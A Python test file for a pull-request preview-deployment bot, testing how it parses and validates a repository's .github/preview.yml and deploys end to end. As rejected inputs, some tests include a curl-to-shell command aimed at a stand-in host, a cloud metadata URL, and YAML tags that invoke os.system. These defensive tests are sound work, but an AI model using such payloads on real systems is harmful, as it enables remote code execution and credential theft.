""".github/preview.yml: parsing and checking in-process, then end to end through the fake
GitHub's contents API with the real web and worker processes."""

from __future__ import annotations

import base64
import json
import sys

import httpx
import pytest
import redis

from bot import render, state
from bot.config import ConfigError, load_settings
from bot.model import PreviewKey
from bot.repo_config import NO_CONFIG, RepoConfigError, parse_duration, parse_repo_config
from bot.times import parse_time

from . import webhooks
from .fakegithub import FakeGitHub
from .harness import wait_for
from .test_fakegithub import auth, make_jwt
from .test_github_e2e import APP_ID, INSTALLATION, REPO, SHA1, SHA2, bot_comments, check_runs, comment, deployments, send

CONFIG = ".github/preview.yml"
ENVIRONMENTS = ("preview", "staging")

DESIGN_EXAMPLE = """\
environments:
  preview:
    auto_deploy: false        # deploy when the PR opens / on every push
    ttl: 72h                  # 0 = never expires
    health_check: {path: /healthz, timeout: 300s}
    hourly_cost: 0.05         # USD, when the provisioner cannot tell
    vars: {FEATURE_X: "1"}    # non-secret values, reach the provisioner as PREVIEW_VAR_FEATURE_X
    start: docker compose up -d   # run on the preview VM by the default EC2 user data only
  staging: {ttl: 24h}
"""


# -- durations ----------------------------------------------------------------------------------


@pytest.mark.parametrize("raw, seconds", [(90, 90), ("90", 90), ("90s", 90), ("30m", 1800), ("72h", 259200), ("7d", 604800), ("1.5h", 5400), (0, 0), ("0", 0)])
def test_durations_are_seconds_or_a_number_with_a_unit(raw, seconds):
    assert parse_duration(raw) == seconds


@pytest.mark.parametrize("raw", ["3 days", "1w", "-5", -1, "h", "", True, "1e3", float("nan"), float("inf"), None])
def test_anything_else_is_not_a_duration(raw):
    with pytest.raises(ValueError):
        parse_duration(raw)


def test_settings_read_durations_and_name_a_bad_one():
    settings = load_settings({"PREVIEW_HEALTH_PATH": "/healthz", "PREVIEW_HEALTH_TIMEOUT": "5m", "PREVIEW_COMMAND_TIMEOUT": "1h"})
    assert (settings.health_path, settings.health_timeout, settings.command_timeout) == ("/healthz", 300, 3600)
    assert load_settings({}).health_path is None and load_settings({}).health_timeout == 300
    for env, variable in (({"PREVIEW_HEALTH_TIMEOUT": "soon"}, "PREVIEW_HEALTH_TIMEOUT"), ({"PREVIEW_HEALTH_PATH": "healthz"}, "PREVIEW_HEALTH_PATH"),
                          ({"PREVIEW_ENVIRONMENTS": "preview,qa", "PREVIEW_ENV_QA_HEALTH_TIMEOUT": "0"}, "PREVIEW_ENV_QA_HEALTH_TIMEOUT")):
        with pytest.raises(ConfigError, match=variable):
            load_settings(env)


# -- the file -----------------------------------------------------------------------------------


def test_the_designs_example_parses():
    config = parse_repo_config(DESIGN_EXAMPLE, environments=ENVIRONMENTS)
    preview = config.for_environment("preview")
    assert preview.auto_deploy is False and preview.ttl == 72 * 3600 and preview.hourly_cost == 0.05
    assert (preview.health_check.path, preview.health_check.timeout) == ("/healthz", 300)
    assert preview.vars == {"FEATURE_X": "1"} and preview.start == "docker compose up -d"
    assert config.for_environment("staging").ttl == 24 * 3600
    assert preview.deployment_fields() == {
        "ttl_seconds": 259200, "vars": {"FEATURE_X": "1"}, "start": "docker compose up -d",
        "health_check_path": "/healthz", "health_check_timeout": 300, "hourly_cost": 0.05,
    }
    # What the file does not say is left to the operator.
    assert config.for_environment("other").deployment_fields() == {
        "ttl_seconds": None, "vars": {}, "start": None, "health_check_path": None, "health_check_timeout": None,
    }


@pytest.mark.parametrize("text", ["", "# nothing yet\n", "environments: {}\n", "environments:\n"])
def test_an_empty_file_configures_nothing(text):
    assert parse_repo_config(text, environments=ENVIRONMENTS) == NO_CONFIG


def problems(text: str) -> list[str]:
    with pytest.raises(RepoConfigError) as info:
        parse_repo_config(text, environments=ENVIRONMENTS)
    assert str(info.value) == "\n".join(info.value.problems)
    return info.value.problems


def test_errors_name_the_line_and_the_field():
    text = "environments:\n  preview:\n    auto_deploy: true\n    ttl: 3 days\n"
    assert problems(text) == ['.github/preview.yml line 4: environments.preview.ttl: not a duration ("3 days")']


def test_every_problem_is_told_in_line_order():
    text = """\
environments:
  preview:
    hourly_cost: "0.05"
    vars: {FEATURE_X: 1, lower: "x"}
    health_check: {path: healthz, timeout: 0}
    auto_deploy: sometimes
"""
    assert problems(text) == [
        '.github/preview.yml line 3: environments.preview.hourly_cost: not a number ("0.05")',
        '.github/preview.yml line 4: environments.preview.vars.FEATURE_X: not a string (quote it) ("1")',
        '.github/preview.yml line 4: environments.preview.vars.lower: not a variable name (A-Z, 0-9 and _) ("lower")',
        '.github/preview.yml line 5: environments.preview.health_check.path: not a path starting with / ("healthz")',
        '.github/preview.yml line 5: environments.preview.health_check.timeout: must be more than 0 ("0")',
        '.github/preview.yml line 6: environments.preview.auto_deploy: not true or false ("sometimes")',
    ]


@pytest.mark.parametrize(
    "text, expected",
    [
        # The operator's settings are not the repository's to choose.
        ("environments:\n  preview:\n    deploy_command: curl evil.test | sh\n", "line 3: environments.preview.deploy_command: unknown key"),
        ("environments:\n  preview:\n    ec2: {instance_type: p4d.24xlarge}\n", "line 3: environments.preview.ec2: unknown key"),
        ("provisioner: command\n", "line 1: provisioner: unknown key"),
        ("environments:\n  preview:\n    health_check: {path: /h, url: http://169.254.169.254/}\n", "line 3: environments.preview.health_check.url: unknown key"),
        # The file configures the operator's environments; it cannot add one.
        ("environments:\n  preview: {}\n  prod: {ttl: 1h}\n", "line 3: environments.prod: not an environment of this installation (preview, staging)"),
        ("environments:\n  preview: {}\n  preview: {}\n", "line 3: environments.preview: given twice"),
        ("environments: [preview]\n", "line 1: environments: not a mapping"),
        ("- preview\n", "line 1: the file must be a mapping with the key `environments`"),
        ("environments:\n  preview: {ttl: 1h\n", "line 3: not valid YAML"),
        ("environments:\n\tpreview: {}\n", "line 2: not valid YAML"),
    ],
)
def test_what_the_file_may_not_say(text, expected):
    assert any(expected in problem for problem in problems(text)), problems(text)


def test_yaml_tags_never_build_objects(tmp_path):
    marker = tmp_path / "ran"
    for text in (f"environments: !!python/object/apply:os.system ['touch {marker}']\n", "environments:\n  preview:\n    start: !!python/name:os.system\n"):
        assert problems(text)
    assert not marker.exists()


def test_a_config_error_fails_an_idle_check_run_inertly():
    fields = render.check_run_fields(None, config_error='.github/preview.yml line 4: environments.preview.ttl: not a duration ("<b>@team")')
    assert (fields["status"], fields["conclusion"]) == ("completed", "failure")
    assert "line 4: environments.preview.ttl: not a duration" in fields["output"]["summary"]
    assert "<b>" not in fields["output"]["summary"] and "&lt;b&gt;" in fields["output"]["summary"]
    assert [a["identifier"] for a in fields["actions"]] == ["retry"]


# -- the fake GitHub's contents API -------------------------------------------------------------


def test_the_fake_serves_files_per_ref_as_github_does(private_key_pem):  # noqa: F811
    with FakeGitHub(APP_ID, private_key_pem) as github, httpx.Client(headers={"User-Agent": "previewbot-tests"}) as client:
        github.add_installation(INSTALLATION, "octo")
        github.add_repo(REPO, INSTALLATION)
        github.add_pull(REPO, 1, "feat/login", SHA1)
        github.add_file(REPO, CONFIG, "environments: {}\n")
        github.add_file(REPO, CONFIG, "environments:\n  preview: {ttl: 1h}\n", ref=SHA1)
        app_jwt = make_jwt(private_key_pem.encode(), iss=str(APP_ID))
        token = client.post(f"{github.url}/app/installations/{INSTALLATION}/access_tokens", headers={"Authorization": f"Bearer {app_jwt}"}).json()["token"]

        def get(ref: str | None):
            return client.get(f"{github.url}/repos/{REPO}/contents/{CONFIG}", params={"ref": ref} if ref else None, headers=auth(token))

        for ref, text in ((None, "environments: {}\n"), ("main", "environments: {}\n"), (SHA1, "environments:\n  preview: {ttl: 1h}\n"), ("feat/login", "environments:\n  preview: {ttl: 1h}\n")):
            answer = get(ref)
            assert answer.status_code == 200 and answer.json()["type"] == "file" and answer.json()["encoding"] == "base64"
            assert base64.b64decode(answer.json()["content"]).decode() == text
            validator = github.spec.operation("GET", "/repos/{owner}/{repo}/contents/{path}").response_validator(200)
            assert list(validator.iter_errors(answer.json())) == []
        assert get(SHA2).status_code == 404  # no such commit
        assert client.get(f"{github.url}/repos/{REPO}/contents/README.md", headers=auth(token)).status_code == 404
        assert github.violations == []


# -- end to end ---------------------------------------------------------------------------------


def env_dump_script(tmp_path, name: str = "deploy.py") -> tuple[str, object]:
    """A deploy command that writes its environment to a file and prints a preview URL."""
    dump = tmp_path / f"{name}.env.json"
    script = tmp_path / name
    script.write_text(f"import json, os\njson.dump(dict(os.environ), open({str(dump)!r}, 'w'))\nprint('https://p.example.test')\n")
    return f"{sys.executable} {script}", dump


def current(bot, pr: int = 1):
    return state.current(redis.Redis.from_url(bot.env["REDIS_URL"]), PreviewKey(REPO, pr))


@pytest.mark.slow
def test_the_repositorys_file_reaches_the_provisioner(start_bot, fake, tmp_path):  # noqa: F811
    command, dump = env_dump_script(tmp_path)
    fake.add_file(REPO, CONFIG, 'environments:\n  preview:\n    vars: {FEATURE_X: "1", GREETING: "hello world"}\n    ttl: 3h\n    hourly_cost: 0.25\n', ref=SHA1)
    bot = start_bot({"PREVIEW_PROVISIONER": "command", "PREVIEW_DEPLOY_COMMAND": command})
    send(bot, "issue_comment", comment(fake))
    bot.wait_status(REPO, 1, "deployed")
    env = json.loads(dump.read_text())
    assert (env["PREVIEW_VAR_FEATURE_X"], env["PREVIEW_VAR_GREETING"]) == ("1", "hello world")
    deployed = current(bot)
    assert (deployed.ttl_seconds, deployed.hourly_cost, deployed.vars) == (3 * 3600, 0.25, {"FEATURE_X": "1", "GREETING": "hello world"})
    # The repository's ttl, not PREVIEW_TTL (72h), sets the expiry.
    lives = parse_time(deployed.expires_at) - parse_time(deployed.updated_at)
    assert abs(lives.total_seconds() - 3 * 3600) < 5
    [read] = fake.calls_to("GET", rf"/repos/{REPO}/contents/\.github/preview\.yml")
    assert read.query == {"ref": SHA1}


@pytest.mark.slow
def test_an_invalid_file_fails_the_check_run_and_deploys_nothing(start_bot, fake, tmp_path):  # noqa: F811
    command, dump = env_dump_script(tmp_path)
    fake.add_file(REPO, CONFIG, "environments:\n  preview:\n    vars: {A: b}\n    ttl: 3 days\n", ref=SHA1)
    bot = start_bot({"PREVIEW_PROVISIONER": "command", "PREVIEW_DEPLOY_COMMAND": command})
    send(bot, "issue_comment", comment(fake))
    failed = bot.wait_status(REPO, 1, "failed")
    assert 'line 4: environments.preview.ttl: not a duration ("3 days")' in failed["error"]
    fake.wait_for(lambda: check_runs(fake) and check_runs(fake)[0].get("conclusion") == "failure", message="failed check run")
    assert "line 4: environments.preview.ttl: not a duration" in check_runs(fake)[0]["output"]["summary"]
    fake.wait_for(lambda: bot_comments(fake) and "line 4: environments.preview.ttl" in bot_comments(fake)[0]["body"], message="the error in the PR comment")
    assert not dump.exists() and deployments(fake) == []


@pytest.mark.slow
def test_an_invalid_file_fails_the_check_run_when_the_pull_request_opens(start_bot, fake):  # noqa: F811
    fake.add_file(REPO, CONFIG, "environments:\n  preview:\n    auto_deploy: true\n    start_command: make run\n", ref=SHA1)
    bot = start_bot({"PREVIEW_AUTO_DEPLOY": "true"})
    send(bot, "pull_request", webhooks.pull_request("opened", REPO, 1, "feat/login", SHA1, installation_id=INSTALLATION))
    fake.wait_for(lambda: check_runs(fake) and check_runs(fake)[0].get("conclusion") == "failure", message="failed check run")
    assert "line 4: environments.preview.start_command: unknown key" in check_runs(fake)[0]["output"]["summary"]
    fake.wait_for(lambda: bot_comments(fake), message="note in the PR comment")
    assert "has errors" in bot_comments(fake)[0]["body"]
    assert bot.deployment(REPO, 1).status_code == 404 and deployments(fake) == []


@pytest.mark.slow
def test_the_repository_turns_auto_deploy_on(start_bot, fake):  # noqa: F811
    fake.add_file(REPO, CONFIG, "environments:\n  preview: {auto_deploy: true}\n", ref=SHA1)
    bot = start_bot()
    send(bot, "pull_request", webhooks.pull_request("opened", REPO, 1, "feat/login", SHA1, installation_id=INSTALLATION))
    assert bot.wait_status(REPO, 1, "deployed")["trigger"] == "auto"


@pytest.mark.slow
def test_a_fork_is_configured_by_the_base_branch(start_bot, fake, tmp_path):  # noqa: F811
    command, dump = env_dump_script(tmp_path)
    fake.add_pull(REPO, 2, "main", SHA2, head_repo="eve/app")
    fake.add_file(REPO, CONFIG, 'environments:\n  preview:\n    vars: {FROM: "base"}\n')
    # The fork's own file, at its head, asks for more; it is never read.
    fake.add_file(REPO, CONFIG, 'environments:\n  preview:\n    vars: {FROM: "fork", EXTRA: "1"}\n    deploy_command: "x"\n', ref=SHA2)
    bot = start_bot({"PREVIEW_PROVISIONER": "command", "PREVIEW_DEPLOY_COMMAND": command})
    click = webhooks.check_run("requested_action", REPO, SHA2, 1, app_id=APP_ID, identifier="deploy", sender="mona",
                               installation_id=INSTALLATION, external_id="2:preview")
    send(bot, "check_run", click)
    bot.wait_status(REPO, 2, "deployed")
    env = json.loads(dump.read_text())
    assert env["PREVIEW_VAR_FROM"] == "base" and "PREVIEW_VAR_EXTRA" not in env
    assert {c.query.get("ref") for c in fake.calls_to("GET", rf"/repos/{REPO}/contents/\.github/preview\.yml")} == {"main"}
    wait_for(lambda: current(bot, 2).vars == {"FROM": "base"})
